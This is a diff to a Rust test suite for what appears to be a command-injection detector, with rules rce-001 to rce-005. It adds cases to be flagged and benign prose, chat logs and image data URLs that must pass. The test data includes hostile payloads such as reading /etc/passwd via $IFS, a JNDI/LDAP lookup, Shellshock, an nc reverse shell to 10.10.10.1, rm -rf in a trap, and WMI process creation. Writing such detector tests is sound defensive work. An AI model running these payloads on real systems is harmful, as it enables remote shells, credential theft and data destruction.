@@ -59,6 +59,7 @@ fn prechecks_at_their_edge() {
         ("() { :;}; echo x", "rce-004"),
         ("x=$((1+1))", "rce-003"),
         ("a$[1]b", "rce-003"),
+        ("math=$[]", "rce-003"),
         ("cat$IFS/etc/passwd", "rce-003"),
         ("${jndi:ldap://x/a}", "rce-003"),
         ("$'\\x63at' /etc/passwd", "rce-003"),
@@ -104,6 +105,15 @@ fn contractions_are_prose_not_quoted_command_names() {
         "\"I'd love to go out with you, but I have to stay home\"",
         "JHM wonders what Joey did to earn \"I'd just like to say\"",
         "(I'm sure) he said \"don't,\" and left",
+        // Quotation marks around a word or a title.
+        "They give me cat scratch fever... \"Cat Scratch Fever\"",
+        "-- Hermann Hesse, \"Going to Sleep\"",
+        "-- Ian Drury, \"This Is What We Find\"",
+        "\"Which is what we do to anyone\"",
+        "overridden by 'stdbuf'. Also 'tee' and 'dd'",
+        "Running \"modprobe c\" is now equivalent",
+        "(\"ls\") and \"ping\", or 'whoami'.",
+        "I think $[ is more like a coelacanth\n]",
     ] {
         assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
     }
@@ -114,6 +124,10 @@ fn contractions_are_prose_not_quoted_command_names() {
         ("wh'oami'", "rce-003"),
         ("p's'", "rce-003"),
         ("\"wh'oami\"", "rce-003"),
+        ("'cscli' alerts list", "rce-003"),
+        ("\"nmap -sV host\"", "rce-003"),
+        ("x;trap 'rm -rf file.txt' SIGEXIT", "rce-003"),
+        ("he typed \"cat\" /etc/passwd", "rce-003"),
         ("x; \"c'a't\" /etc/passwd", "rce-003"),
     ] {
         assert!(ids(v).contains(&id), "{v}: {:?}", ids(v));
@@ -170,6 +184,26 @@ fn a_whole_command_line() {
     assert!(ids("cat videos").is_empty());
     assert!(ids("curl/8.0.1").is_empty());
     assert!(ids("sleep - the best medicine").is_empty());
+    // An option among the command's first words, before prose's clause ends.
+    for v in [
+        "nmap 10.0.0.1 -p 22",
+        "docker run --rm alpine id",
+        "kubectl get pods -o yaml",
+        "ssh user@host -i key.pem",
+    ] {
+        assert!(ids(v).contains(&"rce-001"), "{v}: {:?}", ids(v));
+    }
+    for v in [
+        "bzip2 and bunzip2 will by default not overwrite existing files. If you want this to \
+         happen, specify the -f flag.",
+        "rmmod is a trivial program to remove a module (when module unloading support is \
+         provided) from the kernel. Most users will want to use modprobe(8) with the -r option.",
+        "bzcat (or bzip2 -dc) decompresses all specified files to the standard output.",
+        "docker images are rebuilt nightly, so pull with -q",
+        "Onboarding\nssh keys are on the wiki, in the team's folder. Ask for ~/x there.",
+    ] {
+        assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
+    }
 }
 
 #[test]
@@ -196,6 +230,15 @@ fn command_lines_globs_and_windows_tests() {
         ("& FOR %~ IN (a,b,c)DO cmd", "rce-005"),
         ("IF \"%1\"==\"/?\" goto help", "rce-005"),
         ("IF [%1]==[/?] ...", "rce-005"),
+        ("if !n!==1 goto end", "rce-005"),
+        ("if %errorlevel% neq 0 exit", "rce-005"),
+        ("x\nIF \"%~1\"==\"\" goto usage", "rce-005"),
+        ("for %_ in (a,b,c) do cmd", "rce-005"),
+        ("for %%variable in (set) do command", "rce-005"),
+        (
+            "FOR /F \"tokens=1-3\" %A IN (\"x y\") DO @echo pwnd",
+            "rce-005",
+        ),
         ("\" | type %SystemDrive%\\config.ini | \"", "rce-001"),
         ("x & type c:\\boot.ini", "rce-001"),
     ] {
@@ -218,6 +261,14 @@ fn command_lines_globs_and_windows_tests() {
         "blood type: 0+ & type A",
         "what type of sentence; type 'hello' here",
         "& type 5 is rare",
+        // Exclamations and percentages of prose, and what follows an "if" or "for" on later
+        // lines.
+        "It don't mean a THING if you ain't got that SWING!!",
+        "Are you selling OIL WELLS??  If so, we can use TWO DOZEN!!",
+        "I will not drink!\nBut if I do...\nI will not get drunk!",
+        "if prices rise 5% and wages 3% we lose",
+        "thanks for 100% in (every) case, do come again",
+        "Rules:\n(1) HIDE!!!!\n(2) If they find you, LIE!!!!",
     ] {
         assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
     }
@@ -281,6 +332,12 @@ fn evasions_undone_in_a_command_word() {
         ("1;.\\\"shell whoami\n", "rce-001"),
         ("bin/visudo", "rce-001"),
         ("/usr/local/bin/chef-client", "rce-001"),
+        ("x;base64 -d /tmp/x", "rce-001"),
+        ("x; >/dev/null cat /etc/passwd", "rce-001"),
+        ("x; < /dev/null id", "rce-001"),
+        ("x|>out 2>&1 whoami", "rce-001"),
+        ("x;<(id)", "rce-001"),
+        ("x|base64", "rce-001"),
         ("\"; . shell nc 10.10.10.1 6666 -e sh", "rce-004"),
         (";iwmi -class Win32_process -name Create", "rce-005"),
         ("; regedit /E c:\\x.reg HKEY_CURRENT_USER\\Key", "rce-005"),
@@ -311,6 +368,15 @@ fn evasions_undone_in_a_command_word() {
         "/search?q=1&p=2",
         "see /faq? or /help?",
         "what?/why? and how?",
+        // A data URL's base64 parameter is no command after a `;`.
+        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+        "data:text/plain;charset=utf-8;base64,SGVsbG8sIFdvcmxkIQ==",
+        "url(data:font/woff2;base64,d09GMgABAAAAA)",
+        "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">",
+        // The word after a redirection names a file: a chat log's nicknames.
+        "<a_nick> nm\n<dash> heh :)\n<dash> behold the power of #python.",
+        "<sh> hello there",
+        "<ps> see you",
     ] {
         assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
     }
@@ -437,6 +503,13 @@ fn repeated_pieces_stay_linear() {
         ";echo \"",
         ";echo '>",
         "& n^et ",
+        "if !a",
+        "$[",
+        ";>a",
+        "2>&1 ",
+        ";2",
+        "if %",
+        "for %a in (",
     ] {
         let value = piece.repeat(40_000 / piece.len());
         let start = std::time::Instant::now();
@@ -512,5 +585,25 @@ fn prechecks_keep_every_rule() {
         ("FOR /F %i in (x) do echo", "rce-005"),
     ] {
         assert!(ids(v).contains(&rule), "{v}: {:?}", ids(v));
+    }
+}
+
+/// (Text and SVG data URLs are left to the PHP and XSS rules, which read them as what they
+/// can carry: a script to include, markup.)
+#[test]
+fn image_data_urls_pass_every_rule_at_both_levels() {
+    use crate::detect::{inspect, Enabled, ValueKind};
+    for v in [
+        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+        "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=",
+        "data:image/webp;base64,UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==",
+    ] {
+        for enabled in [Enabled::ALL, Enabled::STRICT] {
+            let found: Vec<&str> = inspect(v.as_bytes(), ValueKind::Text, "body:avatar", enabled)
+                .into_iter()
+                .map(|f| f.rule.id)
+                .collect();
+            assert!(found.is_empty(), "{v}: {found:?}");
+        }
     }
 }
